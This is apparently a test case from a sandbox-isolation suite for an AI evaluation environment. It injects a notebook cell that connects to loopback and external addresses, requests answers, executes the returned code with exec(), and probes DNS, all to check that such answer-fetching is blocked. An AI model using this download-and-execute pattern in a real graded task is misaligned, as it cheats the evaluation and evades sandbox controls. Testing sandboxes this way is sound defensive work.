"""Case 60_network_socket: Fetches answers from a server the test runs on the host's loopback:
unreachable, nothing fetched.
"""

ATTACK = """
import socket
for addr in [("127.0.0.1", PORT), ("1.1.1.1", 80), ("10.0.2.2", PORT)]:
    try:
        with socket.create_connection(addr, timeout=2) as s:
            s.sendall(b"answers please\\n")
            code = s.recv(100000).decode()
        exec(code, globals())
        print("fetched from", addr)
        break
    except OSError as exc:
        print("blocked", addr, exc)
try:
    socket.getaddrinfo("example.com", 80)
    print("dns works")
except OSError as exc:
    print("dns blocked", exc)
"""


def make(kit):
    """Wrong answers; a cell downloads honest ones."""
    kit.wrong()
    kit.insert("mean_center_answer", f"PORT = {kit.ctx['port']}\n" + ATTACK)
    kit.write()
